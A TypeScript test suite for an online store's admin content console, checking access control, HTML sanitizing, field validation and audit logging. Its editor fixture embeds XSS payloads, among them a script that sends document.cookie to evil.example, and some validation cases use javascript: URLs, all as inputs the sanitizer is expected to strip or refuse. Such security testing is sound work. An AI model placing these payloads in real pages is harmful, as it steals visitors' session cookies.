/**
 * 内容管理 as operators use it: only `content:write` gets in; an article written with the editor's HTML is kept
 * sanitized and buyers read it at once; banners, the top ad, the activity entrances, the nav, the hot searches and
 * the hot line reach the storefront on the next request; bad input answers 422 on its field with nothing written;
 * every write is in the audit log.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, count, eq } from 'drizzle-orm';
import { z } from 'zod';
import { AdminAd, AdminArticleCategory, AdminArticleDetail, AdminNavEntry, AdminSiteSettings } from '../../../core/schemas/admin-content.js';
import { okOf, pageOf } from '../../../core/schemas/envelope.js';
import { AdminArticle } from '../../../core/schemas/admin-content.js';
import { ads, articles, auditLog, hotSearches, nav, siteConfig } from '../../db/schema/index.js';
import { undeclared } from '../../http/serializer.js';
import { agent, buildTestApp, dbLabel, loginAs, operatorLogin, type TestApp } from '../../testing.js';

let t: TestApp;
let ops: Awaited<ReturnType<typeof operatorLogin>>;
let service: Awaited<ReturnType<typeof operatorLogin>>;
let buyer: Awaited<ReturnType<typeof loginAs>>;

beforeAll(async () => {
  t = await buildTestApp({ goods: 50, config: { RATE_LIMIT_FACTOR: 100 } });
  [ops, service] = await Promise.all([operatorLogin(t.app, 'ops'), operatorLogin(t.app, 'service')]);
  buyer = await loginAs(t.app, 'demo');
});
afterAll(async () => t?.close());

const audits = async (action: string) => (await t.db.select({ n: count() }).from(auditLog).where(eq(auditLog.action, action)))[0].n;
const rows = async (table: typeof articles | typeof ads | typeof nav | typeof hotSearches) => (await t.db.select({ n: count() }).from(table))[0].n;
const categories = async () => (await ops.get('/api/admin/article-categories')).body.data as z.infer<typeof AdminArticleCategory>[];
const categoryOf = async (code: string) => (await categories()).find((c) => c.code === code)!;
const common = async () => (await agent(t.app).get('/api/focus/common')).body.data;

const EDITOR_HTML =
  '<h2>年终盘点须知</h2><p>盘点期间<strong>暂停发货</strong>，请提前备货。<img src="/uploads/public/pandian.png" onerror="alert(1)"></p><p><a href="javascript:alert(document.cookie)">恶意链接</a> <a href="/help/zfps/hwps">配送说明</a></p><script>fetch("https://evil.example/?c="+document.cookie)</script>';

describe(`the console's content on ${dbLabel}`, () => {
  it('lets only content:write in: guests and buyers 401, other operators 403', async () => {
    const calls: [string, string][] = [
      ['GET', '/api/admin/article-categories'],
      ['GET', '/api/admin/articles'],
      ['POST', '/api/admin/articles'],
      ['GET', '/api/admin/ads'],
      ['POST', '/api/admin/ads'],
      ['GET', '/api/admin/nav'],
      ['POST', '/api/admin/nav'],
      ['GET', '/api/admin/hot-searches'],
      ['POST', '/api/admin/hot-searches'],
      ['GET', '/api/admin/site-settings'],
      ['POST', '/api/admin/site-settings'],
      ['DELETE', '/api/admin/articles/1'],
      ['DELETE', '/api/admin/ads/1'],
    ];
    for (const [method, url] of calls) {
      const send = (who: {
        get: (u: string) => Promise<{ status: number }>;
        post: (u: string, b?: unknown) => Promise<{ status: number }>;
        delete: (u: string) => Promise<{ status: number }>;
      }) => (method === 'GET' ? who.get(url) : method === 'POST' ? who.post(url, { title: 'x' }) : who.delete(url));
      expect((await send(agent(t.app))).status, `${method} ${url} guest`).toBe(401);
      expect((await send(buyer)).status, `${method} ${url} buyer`).toBe(401);
      expect((await send(service)).status, `${method} ${url} service`).toBe(403);
    }
    expect(await rows(articles)).toBeGreaterThan(0);
    expect((await service.upload('/api/admin/images', Buffer.from('x'), 'a.png', 'image/png')).status).toBe(403);
  });

  it('lists the categories with their counts, and articles by category as declared', async () => {
    const list = await ops.get('/api/admin/article-categories');
    expect(undeclared(list.body, okOf(z.array(AdminArticleCategory)).parse(list.body))).toEqual([]);
    const cats = list.body.data as z.infer<typeof AdminArticleCategory>[];
    expect(cats.find((c) => c.code === 'xwzx')).toMatchObject({ selectable: false, is_list: false });
    expect(cats.find((c) => c.code === 'hyxw')).toMatchObject({ path: '新闻中心 › 行业新闻', is_list: true, selectable: true, articles: 12 });
    expect(cats.find((c) => c.code === 'notice')).toMatchObject({ kind: 'notice', path: '新闻中心 › 平台公告' });
    const hyxw = await ops.get(`/api/admin/articles?category_id=${cats.find((c) => c.code === 'hyxw')!.id}`);
    expect(undeclared(hyxw.body, okOf(pageOf(AdminArticle)).parse(hyxw.body))).toEqual([]);
    expect(hyxw.body.data.total).toBe(12);
    expect(hyxw.body.data.data[0].url).toMatch(/^\/help_news_info\/\d+\/hyxw$/);
    const found = (await ops.get(`/api/admin/articles?keyword=${encodeURIComponent('会员注册')}`)).body.data.data;
    expect(found).toEqual([expect.objectContaining({ title: '会员注册', code: 'hyzc', url: '/help/xrzn/hyzc', category_path: '新手指南' })]);
  });

  it('keeps an article written with the editor sanitized, and a buyer reads it at once', async () => {
    const gsxw = await categoryOf('gsxw');
    await buyer.get('/api/post/list?type=gsxw'); // the list is now kept for everyone
    const created = await ops.post('/api/admin/articles', { category_id: gsxw.id, title: '华东仓年终盘点通知', content: EDITOR_HTML, sort: 0, is_show: 1 });
    expect(created.status).toBe(200);
    expect(undeclared(created.body, okOf(AdminArticleDetail).parse(created.body))).toEqual([]);
    const a = created.body.data;
    expect(a.content).toBe(
      '<h2>年终盘点须知</h2><p>盘点期间<strong>暂停发货</strong>，请提前备货。<img src="/uploads/public/pandian.png" /></p><p><a>恶意链接</a> <a href="/help/zfps/hwps">配送说明</a></p>',
    );
    const [stored] = await t.db.select().from(articles).where(eq(articles.id, a.id));
    expect(stored.content).toBe(a.content);
    const list = (await buyer.get('/api/post/list?type=gsxw')).body.data;
    expect(list.data[0]).toMatchObject({ id: a.id, title: '华东仓年终盘点通知', url: `/help_news_info/${a.id}/gsxw` });
    const read = (await buyer.get(`/api/post/postDetail?type=gsxw&id=${a.id}`)).body.data;
    expect(read.content).toBe(a.content);
    expect(await audits('article.create')).toBe(1);
    const [row] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'article.create'));
    expect(row).toMatchObject({ permission: 'content:write', targetType: 'article', targetId: String(a.id), after: { title: '华东仓年终盘点通知' } });
  });

  it('edits a help page, hides it from buyers, and deletes an article, each logged', async () => {
    const [page] = await t.db.select().from(articles).where(eq(articles.code, 'tsjy'));
    await agent(t.app).get('/api/post/postDetail?type=gywm&id=tsjy');
    const edited = await ops.post(`/api/admin/articles/${page.id}`, {
      category_id: page.categoryId,
      title: '投诉与建议',
      code: 'tsjy',
      content: '<p>投诉热线 400-820-3366，工作日 2 小时内回复。</p>',
      sort: 0,
      is_show: 1,
    });
    expect(edited.body.data).toMatchObject({ title: '投诉与建议', url: '/help/gywm/tsjy' });
    const read = (await agent(t.app).get('/api/post/postDetail?type=gywm&id=tsjy')).body.data;
    expect(read).toMatchObject({ title: '投诉与建议', content: '<p>投诉热线 400-820-3366，工作日 2 小时内回复。</p>' });
    const [update] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'article.update'));
    expect(update.before).toMatchObject({ title: '投诉建议' });
    expect(update.after).toMatchObject({ title: '投诉与建议' });

    expect((await ops.post(`/api/admin/articles/${page.id}/show`, { is_show: 0 })).body.data.is_show).toBe(0);
    expect((await agent(t.app).get('/api/post/postDetail?type=gywm&id=tsjy')).status).toBe(404);
    const menu = (await agent(t.app).get('/api/article/category?category_id=3')).body.data;
    expect(JSON.stringify(menu)).not.toContain('/help/gywm/tsjy');

    const before = await rows(articles);
    expect((await ops.delete(`/api/admin/articles/${page.id}`)).body.code).toBe(10000);
    expect(await rows(articles)).toBe(before - 1);
    expect((await ops.get(`/api/admin/articles/${page.id}`)).status).toBe(404);
    expect((await ops.delete(`/api/admin/articles/${page.id}`)).status).toBe(404);
    expect(await audits('article.show')).toBe(1);
    expect(await audits('article.delete')).toBe(1);
  });

  it('refuses a bad article on its field and writes nothing', async () => {
    const xrzn = await categoryOf('xrzn');
    const xwzx = await categoryOf('xwzx');
    const before = await rows(articles);
    const logged = (await t.db.select({ n: count() }).from(auditLog))[0].n;
    const good = { category_id: xrzn.id, title: '发票说明', code: 'fpsm', content: '<p>订单完成后自动开具电子发票。</p>' };
    const cases: [Record<string, unknown>, string, string][] = [
      [{ ...good, title: '' }, 'title', '请输入标题'],
      [{ ...good, title: '<b>标题</b>' }, 'title', '标题不能包含 < 或 > 字符'],
      [{ ...good, content: '' }, 'content', '请输入正文'],
      [{ ...good, content: '<script>alert(1)</script><style>p{}</style>' }, 'content', '正文不能为空（脚本、样式等不安全的内容不会保存）'],
      [{ ...good, code: 'Bad Code' }, 'code', '页面代码为1-16位小写字母、数字、下划线或横线，以字母开头'],
      [{ ...good, code: 'hyzc' }, 'code', '该栏目下已有相同页面代码的文章'],
      [{ ...good, category_id: xwzx.id }, 'category_id', '请选择具体栏目（如 新闻中心 › 行业新闻）'],
      [{ ...good, category_id: 999999 }, 'category_id', '栏目不存在'],
      [{ ...good, category_id: 'x' }, 'category_id', '栏目格式不正确'],
      [{ ...good, content: 'x'.repeat(100_001) }, 'content', '正文不能超过100000个字符'],
    ];
    for (const [body, field, message] of cases) {
      const res = await ops.post('/api/admin/articles', body);
      expect(res.status, field).toBe(422);
      expect(res.body.data.errors[field], JSON.stringify(body).slice(0, 80)).toEqual([message]);
    }
    expect(await rows(articles)).toBe(before);
    expect((await t.db.select({ n: count() }).from(auditLog))[0].n).toBe(logged);
    // A news article has no code of its own: it is addressed by its id.
    const hyxw = await categoryOf('hyxw');
    const news = await ops.post('/api/admin/articles', { ...good, category_id: hyxw.id, code: 'hyzc' });
    expect(news.body.data).toMatchObject({ code: '', url: `/help_news_info/${news.body.data.id}/hyxw` });
  });

  it('places banners by position, and the top ad, the carousel and the activity entrances change on the next request', async () => {
    await agent(t.app).get('/api/focus/top');
    await agent(t.app).get('/api/focus/demo?banner_id=125');
    const list = await ops.get('/api/admin/ads?position=top');
    expect(undeclared(list.body, okOf(z.array(AdminAd)).parse(list.body))).toEqual([]);
    const [top] = list.body.data;
    expect(top).toMatchObject({ position: 'top', position_text: '顶部广告', url: '/mrtj' });
    const changed = await ops.post(`/api/admin/ads/${top.id}`, { ...top, title: '年终采购节', url: '/hb', image: '/uploads/public/top-2026.png' });
    expect(changed.body.data).toMatchObject({ title: '年终采购节', url: '/hb' });
    expect((await agent(t.app).get('/api/focus/top')).body.data[0]).toMatchObject({ title: '年终采购节', url: '/hb', image: '/uploads/public/top-2026.png' });

    const tiles = (await ops.get('/api/admin/ads?position=tile')).body.data as z.infer<typeof AdminAd>[];
    expect(tiles.every((a) => a.banner_id === 125)).toBe(true);
    await ops.post(`/api/admin/ads/${tiles[0].id}`, { ...tiles[0], is_show: 0 });
    const added = await ops.post('/api/admin/ads', {
      position: 'tile',
      banner_id: 125,
      image: '/uploads/public/lqzx.png',
      title: '领券中心',
      url: '/lqzx',
      sort: 0,
    });
    const entrances = (await agent(t.app).get('/api/focus/demo?banner_id=125')).body.data as { id: number; title: string }[];
    expect(entrances[0]).toMatchObject({ id: added.body.data.id, title: '领券中心' });
    expect(entrances.map((e) => e.id)).not.toContain(tiles[0].id);

    const carousel = await ops.post('/api/admin/ads', {
      position: 'index_banner',
      image: '/uploads/public/spring.png',
      title: '春季备货节',
      url: '*#活动3月1日开始',
      sort: 0,
    });
    expect((await agent(t.app).get('/api/focus')).body.data).toContainEqual(expect.objectContaining({ id: carousel.body.data.id, url: '*#活动3月1日开始' }));
    expect((await ops.delete(`/api/admin/ads/${carousel.body.data.id}`)).body.code).toBe(10000);
    expect((await agent(t.app).get('/api/focus')).body.data.map((a: { id: number }) => a.id)).not.toContain(carousel.body.data.id);
    expect(await audits('ad.update')).toBe(2);
    expect(await audits('ad.create')).toBe(2);
    expect(await audits('ad.delete')).toBe(1);
  });

  it('refuses a bad banner on its field and writes nothing', async () => {
    const before = await rows(ads);
    const good = { position: 'index_banner', image: '/uploads/public/a.png', url: '/hb', title: '横幅' };
    const cases: [Record<string, unknown>, string, string][] = [
      [{ ...good, position: 'nowhere' }, 'position', '请选择广告位'],
      [{ ...good, image: '' }, 'image', '请上传或填写广告图片'],
      [{ ...good, image: 'javascript:alert(1)' }, 'image', '广告图片须为站内路径（以 / 开头）或 https 地址'],
      [{ ...good, url: 'javascript:alert(1)' }, 'url', '链接地址须为站内路径（以 / 开头）、http(s) 地址，或 *#提示文字'],
      [{ ...good, url: '//evil.example' }, 'url', '链接地址须为站内路径（以 / 开头）、http(s) 地址，或 *#提示文字'],
      [{ ...good, position: 'tile' }, 'banner_id', '请填写活动ID（首页活动入口为 125）'],
      [{ ...good, sort: -1 }, 'sort', '排序至少为0'],
    ];
    for (const [body, field, message] of cases) {
      const res = await ops.post('/api/admin/ads', body);
      expect(res.status, field).toBe(422);
      expect(res.body.data.errors[field][0]).toBe(message);
    }
    expect(await rows(ads)).toBe(before);
    expect((await ops.post('/api/admin/ads/999999', good)).status).toBe(404);
  });

  it('edits the nav and its children, two levels at most, and the header shows them at once', async () => {
    await common();
    const list = await ops.get('/api/admin/nav');
    expect(undeclared(list.body, okOf(z.array(AdminNavEntry)).parse(list.body))).toEqual([]);
    const entries = list.body.data as z.infer<typeof AdminNavEntry>[];
    const centre = entries.find((e) => e.name === '活动中心')!;
    expect(centre.children.map((c) => c.name)).toContain('满返活动');
    const child = await ops.post('/api/admin/nav', { parent_id: centre.id, name: '领券中心', url: '/lqzx', sort: 9 });
    expect(child.body.data).toMatchObject({ parent_id: centre.id, name: '领券中心', is_show: 1 });
    const shown = ((await common()).nav as { name: string; children: { name: string }[] }[]).find((n) => n.name === '活动中心')!;
    expect(shown.children.map((c) => c.name)).toContain('领券中心');

    const before = await rows(nav);
    const grandchild = await ops.post('/api/admin/nav', { parent_id: child.body.data.id, name: '三级菜单', url: '/' });
    expect(grandchild.status).toBe(422);
    expect(grandchild.body.data.errors.parent_id).toEqual(['导航最多两级：请选择顶部导航作为上级']);
    const moveParent = await ops.post(`/api/admin/nav/${centre.id}`, { ...centre, parent_id: entries[0].id });
    expect(moveParent.body.data.errors.parent_id).toEqual(['该导航下还有子菜单，不能移到其他导航下']);
    expect((await ops.post('/api/admin/nav', { name: '', url: '/' })).body.data.errors.name).toEqual(['请输入导航名称']);
    expect(await rows(nav)).toBe(before);

    const refused = await ops.delete(`/api/admin/nav/${centre.id}`);
    expect(refused.body).toMatchObject({ code: 400, message: '请先删除该导航下的子菜单' });
    const home = entries.find((e) => e.name === '首页')!;
    await ops.post(`/api/admin/nav/${home.id}`, { ...home, name: '商城首页' });
    expect(((await common()).nav as { name: string }[])[0].name).toBe('商城首页');
    expect((await ops.delete(`/api/admin/nav/${child.body.data.id}`)).body.code).toBe(10000);
    expect(await audits('nav.create')).toBe(1);
    expect(await audits('nav.update')).toBe(1);
    expect(await audits('nav.delete')).toBe(1);
  });

  it('edits the hot searches under the search box', async () => {
    await common();
    const [first] = (await ops.get('/api/admin/hot-searches')).body.data;
    expect(first).toMatchObject({ name: '阿莫西林', sort: 0 });
    await ops.post(`/api/admin/hot-searches/${first.id}`, { ...first, sort: 5 });
    const added = await ops.post('/api/admin/hot-searches', { name: '复方丹参滴丸', sort: 0 });
    expect(added.body.data).toMatchObject({ name: '复方丹参滴丸', url: `/search?keywords=${encodeURIComponent('复方丹参滴丸')}` });
    expect((await common()).rnss[0]).toEqual({ name: '复方丹参滴丸', url: `/search?keywords=${encodeURIComponent('复方丹参滴丸')}` });
    await ops.post(`/api/admin/hot-searches/${added.body.data.id}`, { name: '丹参滴丸', url: '/list?keywords=丹参', sort: 0 });
    expect((await common()).rnss[0]).toEqual({ name: '丹参滴丸', url: '/list?keywords=丹参' });
    const before = await rows(hotSearches);
    expect((await ops.post('/api/admin/hot-searches', { name: 'x'.repeat(33) })).body.data.errors.name).toEqual(['热搜词不能超过32个字符']);
    expect(await rows(hotSearches)).toBe(before);
    await ops.delete(`/api/admin/hot-searches/${added.body.data.id}`);
    expect(((await common()).rnss as { name: string }[]).map((r) => r.name)).not.toContain('丹参滴丸');
    expect(await audits('hot_search.delete')).toBe(1);
  });

  it('changes the hot line, QQ, licence lines and the quality-inspection link, which the header, footer and user object show at once', async () => {
    expect((await common()).site.hot_line).toBe('400-820-3366');
    expect((await buyer.get('/api/user/base')).body.data.common_config.hot_line).toBe('400-820-3366');
    const current = await ops.get('/api/admin/site-settings');
    expect(undeclared(current.body, okOf(AdminSiteSettings).parse(current.body))).toEqual([]);
    const settings = current.body.data;
    expect(settings).toMatchObject({ hot_line: '400-820-3366', qq1: '800012345', quality_inspection_msg: '质检报告查询' });
    expect(settings.licences).toHaveLength(4);
    const next = {
      ...settings,
      hot_line: '400-600-8899',
      qq2: '',
      quality_inspection_url: 'https://zj.yaocaitong.cn/report',
      quality_inspection_msg: '质检报告',
      licences: [...settings.licences.slice(0, 3), { name: '食品经营许可证', number: 'JY13301080123456' }],
    };
    const saved = await ops.post('/api/admin/site-settings', next);
    expect(saved.body.data).toMatchObject({ hot_line: '400-600-8899', qq2: '' });
    const site = (await common()).site;
    expect(site.hot_line).toBe('400-600-8899');
    expect(site.licences.map((l: { name: string }) => l.name)).toContain('食品经营许可证');
    const user = (await buyer.get('/api/user/base')).body.data;
    expect(user.common_config).toEqual({ hot_line: '400-600-8899', qq1: '800012345', qq2: '' });
    expect(user.quality_inspection).toEqual({ quality_inspection_url: 'https://zj.yaocaitong.cn/report', msg: '质检报告' });
    expect((await agent(t.app).get('/api/user/base')).body.data.common_config.hot_line).toBe('400-600-8899');
    const [row] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'settings.update'));
    expect(row.before).toMatchObject({ hot_line: '400-820-3366', qq2: '800012346' });
    expect(row.after).toMatchObject({ hot_line: '400-600-8899', qq2: '' });
  });

  it('refuses bad settings on their field and changes nothing', async () => {
    const settings = (await ops.get('/api/admin/site-settings')).body.data;
    const stored = await t.db.select().from(siteConfig);
    const cases: [Record<string, unknown>, string, string][] = [
      [{ ...settings, hot_line: '' }, 'hot_line', '请输入投诉热线'],
      [{ ...settings, hot_line: '拨打4008203366' }, 'hot_line', '投诉热线只能包含数字、空格、括号、+ 和 -'],
      [{ ...settings, qq1: '12ab' }, 'qq1', '客服QQ为5-12位数字'],
      [
        { ...settings, quality_inspection_url: 'javascript:alert(1)' },
        'quality_inspection_url',
        '质检报告链接须为站内路径（以 / 开头）、http(s) 地址，或 *#提示文字',
      ],
      [{ ...settings, licences: [{ name: '', number: '1' }] }, 'licences.0.name', '请输入证照名称'],
      [{ ...settings, licences: Array.from({ length: 9 }, (_, i) => ({ name: `证照${i}`, number: `${i}` })) }, 'licences', '证照最多8条'],
    ];
    for (const [body, field, message] of cases) {
      const res = await ops.post('/api/admin/site-settings', body);
      expect(res.status, field).toBe(422);
      expect(res.body.data.errors[field][0], field).toBe(message);
    }
    expect(await t.db.select().from(siteConfig)).toEqual(stored);
    expect(await audits('settings.update')).toBe(1);
    const [{ n }] = await t.db
      .select({ n: count() })
      .from(auditLog)
      .where(and(eq(auditLog.targetType, 'site_settings')));
    expect(n).toBe(1);
  });
});
